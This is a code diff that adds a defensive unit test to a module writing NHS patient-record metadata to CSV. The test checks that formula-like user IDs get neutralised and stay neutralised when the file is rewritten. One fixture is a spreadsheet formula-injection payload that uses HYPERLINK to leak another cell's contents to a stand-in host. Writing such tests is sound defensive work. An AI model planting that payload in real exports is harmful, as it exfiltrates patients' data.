@@ -118,6 +118,29 @@ describe('file drop: names and metadata per the national convention', () => {
     for (const row of rows) expect(filesUnder(folder)).toContain(row.FILEPATH);
   });
 
+  it('neutralises formula-like cells in metadata.csv, and keeps them so when the file is rewritten', async () => {
+    const folder = freshFolder();
+    const hostile: Array<[string, string]> = [
+      ['=HYPERLINK("http://x/?leak="&D2,"Open")', `'=HYPERLINK("http://x/?leak="&D2,"Open")`],
+      ['+1', "'+1"],
+      ['-1', "'-1"],
+      ['@SUM(A1:A9)', "'@SUM(A1:A9)"],
+      ['\tcmd', "'\tcmd"],
+      ['\r=1+1', "'\r=1+1"],
+      ['a=1', 'a=1'],
+    ];
+    for (const [index, [userId]] of hostile.entries()) await sinkInto(folder).deliver(document(10 + index, { userId }));
+    // One more delivery reads the CSV back and rewrites it: cells already neutralised stay as they are.
+    await sinkInto(folder).deliver(document(20));
+
+    const { text, rows } = metadataOf(folder);
+    expect(rows).toHaveLength(hostile.length + 1);
+    const userIds = Object.fromEntries(rows.map((row) => [row['NHS-NO'], row['USER-ID']]));
+    for (const [index, [, expected]] of hostile.entries()) expect(userIds[NHS_NUMBERS[10 + index]], hostile[index][0]).toBe(expected);
+    // No line of the file starts a cell with a formula character, quoted or not.
+    for (const cell of text.split(/,|\r\n/)) expect(cell.replace(/^"/, '')).not.toMatch(/^[=+\-@\t\r]/);
+  });
+
   it('keeps only the characters the convention allows in the name, brackets included', () => {
     const name = (given: string[], family: string) =>
       lloydGeorgeFileName({ given, family, nhsNumber: NHS_NUMBERS[3], birthDate: '1961-12-09' });
